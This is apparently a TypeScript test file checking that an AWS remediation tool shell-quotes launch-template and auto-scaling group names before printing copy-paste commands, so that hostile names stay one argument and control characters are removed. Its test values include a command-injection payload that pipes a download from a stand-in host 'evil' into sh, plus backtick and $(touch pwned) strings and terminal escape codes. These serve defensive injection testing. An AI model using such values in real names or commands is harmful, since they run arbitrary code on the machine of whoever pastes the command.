// Commands the tool prints for a person to copy carry names from member accounts: each such name
// must reach the shell as one argument, whatever it holds. Checked by running the printed text in
// sh with `aws` as a function that records its arguments (nothing else is defined or run).
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { printable, shellQuote } from '../../functions/domain/shell.ts';
import { pinnedGroupAdvice, pinnedGroupCommand } from '../../functions/domain/template-advice.ts';
import type { TemplateFacts, TemplateResult } from '../../functions/domain/templates.ts';
import { buildTemplateFinding } from '../../functions/findings/template-findings.ts';
import { aggregate } from '../../functions/report/aggregate.ts';
import { digestShard, summarizePlan } from '../../functions/report/digest.ts';
import { renderReport } from '../../functions/report/render-text.ts';

const HOSTILE = 'x $(curl evil|sh) #\n';
const MARKER = "it's `touch pwned`; $(touch pwned) && touch pwned\r\u001b[2K";

/** Runs the text in sh with a recording `aws`; each call's arguments, in order. */
const awsCalls = (command: string): string[][] => {
  const dir = mkdtempSync(join(tmpdir(), 'shell-quote-'));
  const script = `aws() { for a in "$@"; do printf '%s\\0' "$a"; done >> "$OUT"; printf '\\n' >> "$OUT"; echo 7; }\n${command}\n`;
  const run = spawnSync('sh', ['-c', script], { cwd: dir, env: { PATH: process.env.PATH ?? '', OUT: join(dir, 'calls') }, encoding: 'utf8' });
  expect(run.status, run.stderr).toBe(0);
  expect(spawnSync('ls', [dir], { encoding: 'utf8' }).stdout.trim()).toBe('calls'); // nothing else ran
  return readFileSync(join(dir, 'calls'), 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((call) => call.split('\0').filter((a, n, all) => n < all.length - 1 || a !== ''));
};

describe('shellQuote', () => {
  it.each([HOSTILE, MARKER, "'", '', '-rf', 'a b', 'lt-0abc', 'x\ny'])('gives %j to the shell as one argument, control characters as ?', (text) => {
    const [call] = awsCalls(`aws ${shellQuote(text)}`);
    expect(call).toEqual([printable(text)]);
  });

  it('quotes the hostile name with single quotes, its newline a ?', () => {
    expect(shellQuote(HOSTILE)).toBe(`'x $(curl evil|sh) #?'`);
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
    expect(shellQuote('lt-0123abcd')).toBe('lt-0123abcd');
  });
});

describe('the advice for a group pinned to a version that allows IMDSv1', () => {
  it('copies the pinned version with IMDSv2 required and moves the group to the copy, its name one argument', () => {
    const [create, move] = awsCalls(pinnedGroupCommand('lt-0123abcd', HOSTILE, 3));

    expect(create).toEqual([
      'ec2', 'create-launch-template-version', '--launch-template-id', 'lt-0123abcd', '--source-version', '3',
      '--launch-template-data', '{"MetadataOptions":{"HttpTokens":"required","HttpEndpoint":"enabled"}}',
      '--query', 'LaunchTemplateVersion.VersionNumber', '--output', 'text',
    ]);
    expect(move).toEqual(['autoscaling', 'update-auto-scaling-group', '--auto-scaling-group-name', 'x $(curl evil|sh) #?', '--launch-template', 'LaunchTemplateId=lt-0123abcd,Version=7']);
    expect(pinnedGroupAdvice('lt-0123abcd', 'g', 3)).not.toContain('$Default');
  });

  const template: TemplateResult = {
    accountId: '111111111111', region: 'eu-west-1', launchTemplateId: 'lt-0123abcd', launchTemplateName: `web\u001b[2K${HOSTILE}`,
    verdict: 'compliant', allowsV1: false, reason: 'requires IMDSv2', defaultVersion: 4, createdVersions: [], changes: [], changed: false,
    instances: 0, v1Users: [], pinned: [{ group: HOSTILE, version: 3 }],
  };

  it('reaches the finding as the same quoted command', () => {
    const facts: TemplateFacts = {
      launchTemplateId: 'lt-0123abcd', launchTemplateName: 'web', tags: {}, defaultVersion: 4, latestVersion: 4, managedBy: undefined,
      versions: new Map([[4, { versionNumber: 4, metadata: { httpTokens: 'required', httpEndpoint: 'enabled', hopLimit: 2 }, instanceTags: {} }]]),
      groups: [{ group: HOSTILE, version: '3' }],
    };
    const finding = buildTemplateFinding({ partition: 'aws', shard: { accountId: '111111111111', region: 'eu-west-1' }, facts, result: template, now: new Date(0) });

    const text = finding.Remediation.Recommendation.Text;
    expect(text).toContain(pinnedGroupCommand('lt-0123abcd', HOSTILE, 3));
    expect(text).not.toContain('\n');
    expect(text).not.toContain(' x $(curl');
  });

  it('reaches the text report as one line, with the hostile name quoted and no control character', () => {
    const shard = { shard: { accountId: '111111111111', region: 'eu-west-1' }, instances: [], errors: [], templates: [template], launchConfigurations: [] };
    const plan = summarizePlan({ shards: [shard.shard], errors: [], accounts: 1 });
    const report = { ...aggregate({ mode: 'plan', plan, digests: [digestShard(shard, { hopCeiling: 2 })], findingsEnabled: false }).report, templates: [template] };

    const text = renderReport(report);

    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    const line = text.split('\n').find((l) => l.includes('--auto-scaling-group-name'));
    expect(line).toContain(`--auto-scaling-group-name 'x $(curl evil|sh) #?' --launch-template LaunchTemplateId=lt-0123abcd,Version="$V"`);
    expect(line).toMatch(/^ {2}x \$\(curl evil\|sh\) #\? {2}111111111111/);
  });
});
